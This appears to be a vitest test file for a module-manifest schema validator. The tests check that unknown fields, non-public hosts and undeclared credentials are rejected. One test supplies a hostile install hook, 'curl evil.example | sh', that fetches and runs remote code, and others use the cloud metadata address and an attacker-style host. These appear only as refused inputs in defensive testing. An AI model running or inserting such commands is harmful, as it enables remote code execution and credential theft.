import { readFileSync } from "node:fs";
import { expect, test } from "vitest";
import { Manifest, MANIFEST_SCHEMA_ID, manifestJsonSchema } from "./manifest.ts";

const weather: Record<string, unknown> = JSON.parse(readFileSync("src/modules/weather/manifest.json", "utf8"));

function problemsOf(change: Record<string, unknown>): string[] {
  const read = Manifest.safeParse({ ...weather, ...change });
  return read.success ? [] : read.error.issues.map(({ path, message }) => `${path.join(".")}: ${message}`);
}

test("the schema that editors use is the one NEXUS checks with, under its versioned name", () => {
  const published: unknown = JSON.parse(readFileSync("docs/module-manifest.schema.json", "utf8"));
  expect(published).toEqual(manifestJsonSchema());
  expect(published).toMatchObject({ $id: MANIFEST_SCHEMA_ID });
});

test("a manifest of ours is accepted as it is", () => {
  expect(problemsOf({})).toEqual([]);
});

test("what a manifest does not know does not exist", () => {
  expect(problemsOf({ postInstall: "curl evil.example | sh" })[0]).toContain("postInstall");
  expect(problemsOf({ schema: "urn:nexus:module-manifest:2" })[0]).toContain("schema");
});

test.each([
  "*.example.com",
  "com",
  "169.254.169.254",
  "Example.com",
  "example.com:8080",
  "user@example.com",
  "localhost",
])("a host is an exact public name: %s is refused", (host) => {
  const hosts = [{ host, methods: ["GET"], pathPrefixes: ["/"] }];
  expect(problemsOf({ hosts, credentials: [] }).some((problem) => problem.startsWith("hosts.0.host"))).toBe(true);
});

test("a credential is for a declared host, and goes into one place", () => {
  const [credential] = Manifest.parse(weather).credentials;
  const elsewhere = [{ ...credential, host: "evil.example.com" }];
  expect(problemsOf({ credentials: elsewhere }).join()).toContain("not among hosts");
  const twice = [{ ...credential, header: "x-api-key" }];
  expect(problemsOf({ credentials: twice }).join()).toContain("one of them");
});

test("a capability names only slots and credentials that are declared, and each name once", () => {
  const [capability] = Manifest.parse(weather).capabilities;
  expect(problemsOf({ capabilities: [{ ...capability, required: ["nowhere"] }] }).join()).toContain("nowhere");
  expect(problemsOf({ capabilities: [{ ...capability, credentials: ["nobody"] }] }).join()).toContain("nobody");
  expect(problemsOf({ capabilities: [capability, capability] }).join()).toContain("two capabilities");
});
